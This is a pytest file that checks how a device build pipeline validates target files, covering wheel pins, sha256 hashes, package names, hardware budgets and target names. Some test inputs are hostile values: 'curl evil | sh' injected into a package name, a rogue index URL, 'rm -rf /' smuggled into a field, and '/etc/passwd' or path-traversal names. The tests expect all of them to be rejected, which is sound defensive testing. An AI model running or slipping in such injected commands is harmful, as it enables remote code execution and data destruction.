"""device.targets: a target file is data that reaches pip, mmdebstrap and Dockerfile lines, so every
list entry is checked, every wheel is pinned by sha256, and target names are names."""

import re

import pytest

from pipeline.device import environment, image, targets
from pipeline.device.executors import base as executors
from pipeline.engine.errors import InputError

REPO = targets.TARGETS_DIR.parent


def _target(tmp_path, old, new):
    text = (targets.TARGETS_DIR / "rpi5-litert.toml").read_text()
    assert old in text
    (tmp_path / "t.toml").write_text(text.replace(old, new).replace('name = "rpi5-litert"', 'name = "t"'))
    return lambda: targets.load_target("t", tmp_path)


@pytest.mark.parametrize("old, new, message", [
    ('"ai-edge-litert==2.3.0", ', '"--index-url=http://evil/simple", ', "wheels .* must be an exact pin"),
    ('"ai-edge-litert==2.3.0", ', '"ai-edge-litert>=2", ', "must be an exact pin 'name==version'"),
    ('"python3", ', '"python3; curl evil | sh", ', "debian_packages .* must be a Debian package name"),
    ('"manylinux2014_aarch64"', '"any --pre"', "wheel_platforms .* must be a wheel platform tag"),
    ('"numpy==2.2.6" = "b64d', '"numpy==2.2.6" = "XYZ', "must give the sha256"),
    ('"numpy==2.2.6" = ', '"numpy==2.2.7" = ', "must give the sha256 .* of every wheel"),
])
def test_target_file_entries_are_checked(tmp_path, old, new, message):
    with pytest.raises(InputError, match=message):
        _target(tmp_path, old, new)()


@pytest.mark.parametrize("name", ["../targets/rpi5-litert", "/etc/passwd", "", "rpi5 litert"])
def test_a_target_name_is_never_a_path(name):
    with pytest.raises(InputError, match="must be a name"):
        targets.load_target(name)


def test_the_shipped_targets_pin_every_wheel_and_the_dockerfile_quotes_and_checks_them():
    text = image.dockerfile([targets.load_target(n) for n in targets.available_targets()])
    for name in targets.available_targets():
        t = targets.load_target(name)
        assert set(t.wheel_sha256) == set(t.wheels)
        for pin in t.wheels:
            assert f"'{pin} --hash=sha256:{t.wheel_sha256[pin]}'" in text or not t.emulated
    assert text.count("--require-hashes") == len([n for n in targets.available_targets() if targets.load_target(n).emulated])
    assert not re.search(r"pip install [^\n]*--index-url", text)


def _kind_target(tmp_path, shipped, old, new):
    text = (targets.TARGETS_DIR / f"{shipped}.toml").read_text()
    assert old in text, old
    (tmp_path / "t.toml").write_text(text.replace(old, new).replace(f'name = "{shipped}"', 'name = "t"'))
    return lambda: targets.load_target("t", tmp_path)


@pytest.mark.parametrize("shipped, old, new, message", [
    ("cortex-m-tflm", "sram_bytes = 262144", "sram_bytes = -1",
     r"budget sram_bytes \(.*\) must be an integer from 1 to .*; received -1 in \[budget\]"),
    ("cortex-m-tflm", "sram_bytes = 262144", "sram_bytes = 1e300", r"budget sram_bytes .* received 1e\+300"),
    ("cortex-m-tflm", "flash_bytes = 1048576", "flash_bytes = 2000000000000000",
     r"budget flash_bytes .* from 1 to 1\.09951e\+12; received 2000000000000000"),
    ("cortex-m-tflm", "flash_bytes = 1048576", "flash_byte = 1048576",
     r"\[budget\] in .* takes sram_bytes.*; received 'flash_byte'\. Did you mean 'flash_bytes'\?"),
    ("ethos-u55-128", "max_inference_ms = 10.0", "max_inference_ms = nan", r"budget max_inference_ms .* received nan"),
    ("ethos-u55-128", "max_cpu_fallback_ops = 0", 'max_cpu_fallback_ops = "0"',
     r"budget max_cpu_fallback_ops .* must be an integer"),
    ("ethos-u55-128", 'accelerator_config = "ethos-u55-128"', 'accelerator_config = "ethos-u55-100"',
     r"npu.accelerator_config in .* must be one Vela knows .*; received 'ethos-u55-100'"),
    ("ethos-u55-128", "clock_hz = 500000000", "clock_hz = 0", r"npu.clock_hz in .* received 0"),
    ("ethos-u55-128", 'memory_mode = "Shared_Sram"', 'memory_mode = "Shared_Sram; rm -rf /"', r"npu.memory_mode .* must be a name"),
    ("cortex-m-tflm", 'kernels = "tflm-reference"', 'kernels = "xnnpack"',
     r"kernels in .* must name kernels its runtime tflite-micro runs \(tflm-reference\); received 'xnnpack'"),
    ("cortex-m-tflm", 'kind = "tflm"', 'kind = "fpga"', r"kind in .* must be one of linux, tflm, ethos-u; received 'fpga'"),
    ("cortex-m-tflm", 'kind = "tflm"', 'kind = "tflm"\ncpu = "cortex-m4"',
     r"must define exactly the fields of a tflm target; unknown: \['cpu'\]"),
    ("rpi5-litert", 'kernels = "xnnpack"', 'kernels = "mlas"', r"kernels in .* \(xnnpack, builtin, reference\); received 'mlas'"),
    ("rpi5-litert", "min_top1_agreement = 0.99", 'min_top1_agreement = "high"', r"tolerances.min_top1_agreement .* received 'high'"),
])
def test_budgets_kernels_and_npu_settings_are_checked_naming_the_key(tmp_path, shipped, old, new, message):
    with pytest.raises(InputError, match=message):
        _kind_target(tmp_path, shipped, old, new)()


def test_a_target_files_name_field_must_be_its_file_name(tmp_path):
    """The name field reaches file names in the cache and the build directory: it is never a path."""
    text = (targets.TARGETS_DIR / "rpi5-litert.toml").read_text()
    (tmp_path / "t.toml").write_text(text.replace('name = "rpi5-litert"', 'name = "x/../../ESC3"'))
    with pytest.raises(InputError, match=r"the name field of a target file must be its file name without \.toml; "
                                         r".*t\.toml says name = 'x/\.\./\.\./ESC3'\. Set name = \"t\""):
        targets.load_target("t", tmp_path)


def test_every_shipped_target_names_its_kernels_and_the_environment_key_ignores_budgets(tmp_path):
    for name in targets.available_targets():
        t = targets.load_target(name)
        assert t.kernels in targets.KERNELS[(t.kind, t.runtime)]
    rpi = targets.load_target("rpi5-litert")
    changed = _kind_target(tmp_path, "rpi5-litert", "sram_bytes = 2147483648", "sram_bytes = 1073741824")()
    assert changed.sha256 != rpi.sha256 and environment.env_key(changed) == environment.env_key(rpi)
    other_qemu = _kind_target(tmp_path, "rpi5-litert", 'qemu_version = "10.0"', 'qemu_version = "10.1"')()
    assert environment.env_key(other_qemu) != environment.env_key(rpi)


def test_a_budget_the_kind_does_not_measure_is_refused_by_name(tmp_path):
    """Vela's time and CPU-fallback figures exist only on an NPU: such a budget on a microcontroller would
    never be checked, so it is refused."""
    with pytest.raises(InputError, match=r"takes sram_bytes, flash_bytes, max_macs \(what a tflm target measures\); "
                                         r"received 'max_inference_ms'"):
        _kind_target(tmp_path, "cortex-m-tflm", "max_macs = 32000000", "max_inference_ms = 5.0")()


def test_every_executor_of_a_linux_board_gets_its_kernels_flag():
    import dataclasses

    rpi5 = targets.load_target("rpi5-litert")
    assert executors.kernel_args(rpi5) == []  # xnnpack: the runtime's default
    assert executors.kernel_args(dataclasses.replace(rpi5, kernels="builtin")) == ["--kernels", "builtin"]
    assert executors.kernel_args(targets.load_target("cortex-m-tflm")) == []  # its kind's launch says TFLM itself


def test_vela_s_operator_listing_is_read_in_its_5_2_format():
    """Vela 5.2 prints each operator with its input and output shapes (ethosu/vela/vela.py); the names the
    gate's detail and the report show carry neither."""
    from pipeline.device import ethosu

    stdout = ("CPU operators = 1 (33.3%)\nNPU operators = 2 (66.7%)\n"
              "   NPU: Conv2DBias = conv/Relu (inputs [1, 8, 8, 1], outputs [1, 6, 6, 4])\n"
              "   CPU: Gelu = head/gelu (inputs [1, 10], outputs [1, 10])\n"
              "   NPU: FullyConnected = logits (outputs [1, 10])\n")
    row = {"cycles_total": "1709", "cycles_npu": "1477", "sram_memory_used": "0.296875", "off_chip_flash_memory_used":
           "0.359375", "on_chip_flash_memory_used": "0", "dram_memory_used": "0", "nn_macs": "1600"}
    figures = ethosu._figures(targets.load_target("ethos-u55-128"), row, stdout)
    assert figures["cpu_fallback"] == ["Gelu (head/gelu)"] and (figures["npu_ops"], figures["cpu_ops"]) == (2, 1)
    assert (figures["sram_bytes"], figures["off_chip_flash_bytes"], figures["macs"]) == (304, 368, 1600)
    assert figures["inference_ms"] == pytest.approx(1709 / 500e6 * 1e3)


def test_unknown_target_names_the_closest():
    with pytest.raises(InputError, match="Did you mean 'rpi5-litert'"):
        targets.load_target("rpi5-litrt")


def test_dockerfile_matches_the_target_files():
    text = (REPO / "Dockerfile.edge").read_text()
    expected = image.dockerfile([targets.load_target(n) for n in targets.available_targets()])
    assert text == expected, "run: edgebuild target dockerfile"
    copied = [line.split()[1] for line in text.splitlines() if line.startswith("COPY ")]
    assert copied and all((REPO / src).is_file() for src in copied), copied  # what it copies exists
    for name in [n for n in targets.available_targets() if targets.load_target(n).kind == "linux" and targets.load_target(n).emulated]:
        t = targets.load_target(name)
        stage = text.split(f"AS {name}\n", 1)[1].split("FROM ", 1)[0]
        assert f"debian:{t.distribution}-slim" in text.split(f"AS {name}")[0].splitlines()[-1]
        pins = re.search(r"RUN printf [^\n]*--require-hashes[^\n]*", stage).group(0)
        for wheel in t.wheels:
            assert f"'{wheel} --hash=sha256:{t.wheel_sha256[wheel]}'" in pins, (name, wheel)


def test_mirror_comes_from_the_machines_apt_sources(tmp_path):
    (tmp_path / "sources.list.d").mkdir()
    (tmp_path / "sources.list.d" / "debian.sources").write_text(
        "Types: deb\nURIs: http://mirror.example/debian\nSuites: bookworm\nComponents: main\n\n"
        "Types: deb\nURIs: http://mirror.example/debian-security\nSuites: bookworm-security\n"
    )
    assert environment.debian_mirror(str(tmp_path)) == "http://mirror.example/debian"
